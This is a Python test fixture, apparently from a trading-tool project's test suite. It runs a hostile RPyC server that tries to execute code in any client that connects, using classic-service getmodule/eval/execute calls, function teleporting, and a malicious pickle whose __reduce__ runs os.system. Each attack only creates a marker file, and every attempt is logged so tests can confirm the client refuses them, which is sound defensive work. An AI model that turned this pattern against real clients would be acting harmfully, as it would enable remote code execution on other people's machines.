"""A hostile "terminal": an RPyC classic server that tries to run code in whoever connects to it.

    python -m tests.hostile_terminal --port P --marker /tmp/x/pwned --log /tmp/x/attempts --variant callback

It accepts connections as an mt5linux server would and, instead of answering honestly:

- `callback`: on every request it serves (executing our setup code, handing out the helper, each run of
  calls), it tries to reach back into the connecting process and create the marker file there: through
  the classic service's `getmodule`/`eval`/`execute` on the client's root, by teleporting a function,
  and by asking for the client's objects. Its helper then answers with a proxy of one of its own
  objects instead of plain data.
- `pickle`: its helper answers with pickled bytes whose unpickling creates the marker file (what an
  unpickling client would run).

Every attempt and how it ended is appended to the log, so a test can tell that the attacks were made
and failed, rather than never tried. Nothing here is used by TradeGuard itself.
"""

from __future__ import annotations

import argparse
import os
import pickle
import sys
from typing import Any

from rpyc.core import consts
from rpyc.core.service import ModuleNamespace, SlaveService
from rpyc.utils.server import ThreadedServer


class _Evil:
    """Unpickling this runs `os.system("touch <marker>")` in the unpickling process."""

    def __init__(self, marker: str):
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return (os.system, (f"touch {self.marker}",))


def build(variant: str, marker: str, log_path: str) -> type[SlaveService]:
    def note(line: str) -> None:
        with open(log_path, "a") as log:
            log.write(line + "\n")

    def touch_marker_in(conn: Any) -> None:
        """Every way a classic server has of running code in its client."""
        command = f"touch {marker}"
        attempts = {
            "getmodule": lambda: conn.root.getmodule("os").system(command),
            "modules": lambda: ModuleNamespace(conn.root.getmodule).os.system(command),
            "eval": lambda: conn.root.eval(f"__import__('os').system({command!r})"),
            "execute": lambda: conn.root.execute(f"__import__('os').system({command!r})"),
            "teleport": lambda: __import__("rpyc.utils.classic").utils.classic.teleport_function(
                conn, os.system
            )(command),
            "root_class": lambda: conn.root.__class__,
            "inspect_root": lambda: conn.sync_request(consts.HANDLE_INSPECT, conn.root.____id_pack__),
        }
        for name, attempt in attempts.items():
            try:
                attempt()
            except Exception as exc:
                note(f"{name}: refused: {type(exc).__name__}: {str(exc).splitlines()[0][:120]}")
            else:
                note(f"{name}: went through")

    class HostileService(SlaveService):
        def __init__(self) -> None:
            super().__init__()
            # Where a client that reads the namespace (rather than eval'ing a name) finds the helper.
            self.namespace = {"_tradeguard_calls": self.helper}

        def execute(self, text: str) -> None:
            if variant == "callback":
                touch_marker_in(self._conn)
            # Pretends to run the client's setup (the import of MetaTrader5, the helper's definition).
            note("execute: " + text.splitlines()[0][:60])

        def eval(self, text: str) -> Any:
            note("eval: " + text[:60])
            if variant == "callback":
                touch_marker_in(self._conn)
            return self.helper

        def helper(self, payload: Any) -> Any:
            note("helper called")
            if variant == "callback":
                touch_marker_in(self._conn)
                return _Evil(marker)  # not plain data: an RPyC proxy on the client's side
            return pickle.dumps(_Evil(marker))

    return HostileService


def main(argv: list[str] | None = None) -> None:
    parser = argparse.ArgumentParser()
    parser.add_argument("--port", type=int, required=True)
    parser.add_argument("--marker", required=True)
    parser.add_argument("--log", required=True)
    parser.add_argument("--variant", choices=("callback", "pickle"), required=True)
    args = parser.parse_args(argv)
    service = build(args.variant, args.marker, args.log)
    ThreadedServer(service, hostname="127.0.0.1", port=args.port, reuse_addr=True).start()


if __name__ == "__main__":
    main(sys.argv[1:])
